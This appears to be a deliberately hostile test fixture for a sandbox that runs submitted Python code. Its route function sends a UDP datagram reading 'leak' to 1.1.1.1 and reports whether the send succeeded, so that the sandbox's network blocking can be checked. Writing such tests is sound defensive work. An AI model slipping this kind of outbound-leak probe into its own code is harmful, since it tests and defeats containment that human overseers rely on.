# Sends a UDP datagram out (no connection needed).
# expect: rejected import
# sandbox: failed no network
# ruff: noqa  (hostile on purpose: the code style is part of the attack)

import socket

TUNABLES = {}


def route(request, cluster, params):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"leak", ("1.1.1.1", 53))
    except OSError:
        raise RuntimeError("no network") from None
    raise RuntimeError("UDP SENT")
